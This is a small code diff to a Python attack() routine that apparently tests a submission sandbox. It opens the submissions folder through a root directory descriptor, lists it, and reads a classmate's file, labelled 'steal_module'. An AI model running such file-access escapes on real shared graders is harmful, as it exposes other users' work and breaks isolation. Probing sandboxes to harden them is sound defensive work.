@@ -13,7 +13,7 @@ def attack():
         ok, subs_fd = attempt("openat(root, <the submissions folder>) as a directory", lambda: open_dir(at_root(subs), root))
         if ok:
             attempt("list the submissions folder through that descriptor", lambda: os.listdir(subs_fd))
-        victim_file = at_root(os.path.join(TARGETS["victim_dir"], "vectors.py"))
+        victim_file = at_root(TARGETS["victim_file"])
         steal_module(f"openat(root, {victim_file!r}) (the classmate's file)", lambda: read_at(root, victim_file))
     if root is None:
         return
